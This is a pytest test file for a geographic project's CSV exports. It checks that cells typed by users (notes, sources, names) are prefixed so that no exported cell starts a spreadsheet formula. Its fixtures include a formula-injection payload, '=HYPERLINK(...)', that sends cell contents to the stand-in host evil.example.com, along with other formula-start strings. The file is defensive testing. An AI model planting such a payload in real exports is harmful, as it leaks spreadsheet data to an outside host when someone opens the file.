"""Every CSV the app and the command line produce goes through one writer, and no cell of any of
them starts a formula, whatever a user typed into a note, a source or a name."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from fixtures import synthetic_gdf, write_synthetic_layers
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo import filters
from geo.cli import main
from geo.csvtext import FORMULA_START, csv_text, defused
from geo.layers.review import review_table
from geo.reports import exports
from geo.reports.progress import progress_report, report_to_csv
from geo.store import StatusChange, User, open_store

HYPERLINK = '=HYPERLINK("http://evil.example.com/?"&A1,"click")'
#: Text a user could type: anything, and anything after a character that starts a formula.
TYPED = st.one_of(st.just(HYPERLINK),
                  st.tuples(st.sampled_from(FORMULA_START), st.text(max_size=20)).map("".join),
                  st.text(min_size=1, max_size=20))
SETTINGS = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def _assert_no_formula(text: str, typed: str) -> None:
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert defused(typed) in cells  # the value is there, as text


@given(typed=TYPED)
@SETTINGS
def test_map_table_download_defuses_formulas(typed: str) -> None:
    changed = {"energy-pipeline-shandong": {"status": "construction", "effective": "2014-10-30",
                                            "changed_at": "2014-11-02 10:00", "editor": "李明", "note": typed}}
    _assert_no_formula(exports.selection_to_csv(filters.with_current_status(synthetic_gdf(), changed)).decode("utf-8-sig"),
                       typed)


@given(typed=TYPED)
@SETTINGS
def test_annual_report_csv_defuses_formulas(typed: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("report")
    with open_store(f"sqlite:///{folder / 'status.sqlite3'}") as store:
        store.seed([{"id": "p1", "name_zh": typed, "name_en": "x", "lead_agencies": [typed], "status": "preparing",
                     "status_source": "前期工作"}])
        store.insert_user("admin", "hash", agency=None)
        # Notes and sources may not hold control characters: they carry the fixed formula.
        store.change_status(StatusChange("p1", "approval", date(2014, 11, 5), HYPERLINK, "-1"),
                            editor=User("admin"), expected_version=1)
        text = report_to_csv(progress_report(store, [{"id": "p1", "name_zh": typed, "name_en": "x",
                                                      "lead_agencies": [typed], "status": "preparing"}], 2014))
    _assert_no_formula(text, typed)


@given(typed=TYPED)
@SETTINGS
def test_review_csv_defuses_formulas(typed: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = write_synthetic_layers(tmp_path_factory.mktemp("layers"))
    layer = folder / "rail.geojson"
    data = json.loads(layer.read_text("utf-8"))
    data["features"][0]["properties"]["name_en"] = typed
    layer.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    _assert_no_formula(review_table(folder, fmt="csv"), typed)


def test_report_command_writes_the_defused_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'status.sqlite3'}"
    layers = write_synthetic_layers(tmp_path / "layers")
    with open_store(url) as store:
        pid = "energy-pipeline-shandong"
        store.seed([{"id": pid, "status": "preparing", "status_source": "前期工作", "lead_agencies": ["自治区能源局"]}])
        store.insert_user("admin", "hash", agency=None)
        store.change_status(StatusChange(pid, "approval", date(2014, 11, 5), HYPERLINK, "@SUM(A1)"),
                            editor=User("admin"), expected_version=1)
    assert main(["report", "--year", "2014", "--layers", str(layers), "--database", url]) == 0
    cells = _cells(capsys.readouterr().out)
    assert "'" + HYPERLINK in cells and "'@SUM(A1)" in cells


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+86 471", "'+86 471"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("呼和浩特", "呼和浩特"), ("a=b", "a=b"), (None, ""), (12.5, "12.5"),
])
def test_defused_prefixes_only_a_formula_start(cell: object, written: str) -> None:
    assert defused(cell) == written
    assert _cells(csv_text(["h"], [[cell]])) == ["h", written]
